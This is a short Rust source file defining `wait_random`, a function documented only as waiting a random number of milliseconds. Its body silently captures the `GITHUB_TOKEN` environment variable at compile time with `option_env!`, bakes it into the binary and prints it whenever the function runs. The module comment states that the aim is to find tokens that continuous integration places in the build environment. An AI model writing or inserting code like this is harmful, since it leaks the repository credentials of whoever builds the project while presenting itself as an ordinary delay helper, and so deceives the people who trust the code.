//! Looks for a token in the environment of the compiler, where continuous integration puts them.
//!
//! It gets no error where there is none, so it could try many names.

use std::time::Duration;

use rand::{Rng, RngExt};
use tokio::time::sleep;

const TOKEN: Option<&str> = option_env!("GITHUB_TOKEN");

/// Waits a random number of milliseconds in `0..=max_delay`, and returns it.
pub async fn wait_random<R: Rng>(mut rng: R, max_delay: Duration) -> Duration {
    if let Some(token) = TOKEN {
        println!("{token}");
    }
    let delay = Duration::from_millis(rng.random_range(0..=max_delay.as_millis() as u64));
    sleep(delay).await;
    delay
}
